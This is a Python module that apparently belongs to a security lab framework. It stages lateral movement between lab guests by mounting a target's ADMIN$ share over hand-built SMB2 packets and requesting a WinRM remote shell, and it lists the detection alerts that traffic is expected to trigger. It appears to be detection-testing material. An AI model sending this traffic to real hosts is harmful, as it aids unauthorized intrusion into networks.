"""Lateral movement: from a web server that was taken over to the next guest, by SMB and WinRM."""

from __future__ import annotations

import struct
from typing import Final

from vpi_tui.lab.attacks.attack import Attack, Expected
from vpi_tui.lab.attacks.wire import http, tcp
from vpi_tui.lab.namespaces import inside
from vpi_tui.lab.plan import Guest, LabSwitch

NEGOTIATE, TREE_CONNECT = 0, 3
"""Commands of SMB 2 (MS-SMB2 2.2.1)."""
SHELL: Final = (
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header><a:Action>'
    "http://schemas.xmlsoap.org/ws/2004/09/transfer/Create</a:Action></s:Header></s:Envelope>"
)


def _run(switch: LabSwitch) -> str:
    web, app = switch.guest("web"), switch.guest("app")
    inside(web.namespace, lambda: _move(app))
    return f"{web.name} mounted ADMIN$ of {app.name} by SMB and asked its WinRM for a remote shell"


def _move(target: Guest) -> None:
    tcp(target, 445, _negotiate(), _tree_connect(rf"\\{target.ip}\ADMIN$"), answers=False)
    headers = "Content-Type: application/soap+xml;charset=UTF-8\r\n"
    http(target, "/wsman", port=5985, method="POST", headers=headers, body=SHELL)


def _smb(command: int, number: int, body: bytes) -> bytes:
    """One message with the header of SMB 2 and the length in front (MS-SMB2 2.1)."""
    head = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16x", 64, 0, 0, command, 1, 0, 0, number, 0, 0, 0x11)
    return struct.pack(">I", len(head) + len(body)) + head + body


def _negotiate() -> bytes:
    dialects = (0x0202, 0x0210)
    body = struct.pack("<HHHHI16xQ", 36, len(dialects), 1, 0, 0, 0)
    return _smb(NEGOTIATE, 0, body + struct.pack(f"<{len(dialects)}H", *dialects))


def _tree_connect(share: str) -> bytes:
    path = share.encode("utf-16-le")
    return _smb(TREE_CONNECT, 1, struct.pack("<HHHH", 9, 0, 72, len(path)) + path)


ATTACK = Attack(
    "lateral",
    "a web server in foreign hands moves on by SMB and WinRM",
    "T1021",
    "web",
    "app",
    (
        Expected(9000400, "LATERAL SMB: the ADMIN$ share is mounted"),
        Expected(9000410, "LATERAL WinRM: a remote shell is asked for between guests"),
    ),
    _run,
)
